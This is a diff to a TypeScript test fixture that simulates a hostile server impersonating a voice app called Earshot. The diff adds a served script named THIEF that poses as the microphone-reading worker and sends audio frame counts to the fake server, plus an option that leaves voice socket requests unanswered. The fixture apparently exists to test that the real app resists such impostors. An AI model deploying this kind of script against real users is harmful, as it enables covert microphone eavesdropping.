@@ -1,5 +1,6 @@
 import { once } from 'node:events';
 import { createServer, type IncomingMessage, type Server } from 'node:http';
+import type { Duplex } from 'node:stream';
 import { type RawData, type WebSocket, WebSocketServer } from 'ws';
 import { asksForHostProof, hostProof } from '../../main/web/host-proof.ts';
 import { BRIDGE_PATH } from '../../shared/bridge.ts';
@@ -26,16 +27,41 @@ export interface StrangerOptions {
   secret?: string;
   /** Answers the question who it is as Earshot would; default: with a page of its own, as everything. */
   mimics?: boolean;
+  /** Lets whoever asks for a socket to the voice server wait. */
+  silent?: boolean;
 }
+
+const CHALLENGE = 'c'.repeat(22);
+
+/**
+ * In the place of each of the page's own scripts. As the worker that reads the microphone it would get the sound; its requests
+ * are in `heard`.
+ */
+const THIEF = `
+  fetch('/a-script-of-the-stranger-runs').catch(() => undefined);
+  onmessage = async ({ data, ports }) => {
+    const steal = async ({ readable }) => {
+      for (const pieces = readable.getReader(); ; ) {
+        const { value, done } = await pieces.read();
+        if (done) return;
+        fetch('/sound?samples=' + value.numberOfFrames);
+        value.close();
+      }
+    };
+    if (data.readable) void steal(data);
+    if (data instanceof MessagePort) data.onmessage = ({ data }) => data.readable && steal(data);
+  };
+`;
 
 /** @param where the ports of the host that has gone */
 export async function startStranger(
   where: { pagePort: number; voicePort: number; origin: string },
-  { secret = 'a secret of its own', mimics = false }: StrangerOptions = {},
+  { secret = 'a secret of its own', mimics = false, silent = false }: StrangerOptions = {},
 ): Promise<Stranger> {
   const { pagePort, voicePort, origin } = where;
   const heard: string[] = [];
   const asked: string[] = [];
+  const unanswered: Duplex[] = [];
   let messages = 0;
   const sockets = new WebSocketServer({ noServer: true, handleProtocols: ([first]: Set<string>) => first ?? false });
 
@@ -53,8 +79,8 @@ export async function startStranger(
     });
     if (url.pathname === BRIDGE_PATH) {
       // What it may try first: a proof of its own, the page's own proof, or none.
-      if (asked.length % 3 === 0) say({ event: 'hello', proof: prove() });
-      if (asked.length % 3 === 1) say({ event: 'hello', proof: shown });
+      if (asked.length % 3 === 0) say({ event: 'hello', proof: prove(), challenge: CHALLENGE });
+      if (asked.length % 3 === 1) say({ event: 'hello', proof: shown, challenge: CHALLENGE });
       const address = { url: `ws://127.0.0.1:${voicePort}${VOICE_PATH}`, token: secret, accepting: true };
       say({ event: 'onVoiceAddress', payload: address });
       for (const payload of ['start', 'toggle']) say({ event: 'onMicCommand', payload });
@@ -67,6 +93,7 @@ export async function startStranger(
       user_id: url.searchParams.get('user_id') ?? 'me',
       protocol: PROTOCOL,
       proof: asked.length % 2 === 0 ? prove(sessionId) : shown,
+      challenge: CHALLENGE,
       attempt: 1,
       resumed: url.searchParams.has('session_id'),
       resume_token: 'r'.repeat(43),
@@ -85,11 +112,14 @@ export async function startStranger(
       const url = request.url ?? '/';
       if (mimics && asksForHostProof(url)) {
         response.setHeader('Content-Type', 'application/json').end(JSON.stringify(hostProof(url, secret)));
+      } else if (/\.js$/.test(url)) {
+        response.setHeader('Content-Type', 'text/javascript').end(THIEF);
       } else response.setHeader('Content-Type', 'text/html').end('<!doctype html><title>Not Earshot</title>');
     });
     server.on('upgrade', (request, socket, head) => {
       heard.push(`${request.method} ${request.url}`, request.rawHeaders.join('\n'));
       asked.push(request.url?.split('?')[0] ?? '');
+      if (silent && asked.at(-1) === VOICE_PATH) return void unanswered.push(socket.on('error', () => undefined));
       sockets.handleUpgrade(request, socket, head, (webSocket) => onUpgrade(request, port, webSocket));
     });
     server.listen(port, '127.0.0.1');
@@ -106,6 +136,7 @@ export async function startStranger(
     },
     async close() {
       for (const socket of sockets.clients) socket.terminate();
+      for (const socket of unanswered) socket.destroy();
       await Promise.all(
         servers.map((server) => {
           const closed = once(server, 'close');
